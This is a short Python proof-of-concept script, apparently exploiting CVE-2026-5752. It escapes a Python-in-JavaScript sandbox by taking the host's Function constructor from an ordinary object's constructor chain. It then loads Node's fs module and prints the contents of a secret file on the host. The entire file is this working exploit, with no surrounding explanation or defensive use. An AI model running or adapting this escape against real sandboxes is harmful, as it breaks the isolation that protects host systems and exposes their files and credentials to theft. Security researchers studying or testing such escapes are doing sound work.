"""Gets the host's Function from the constructor of any object (CVE-2026-5752)."""

import js

Function = js.Object.new().constructor.constructor
fs = Function("return process.getBuiltinModule('fs')")()
print(fs.readFileSync(SECRET_FILE, "utf8"))
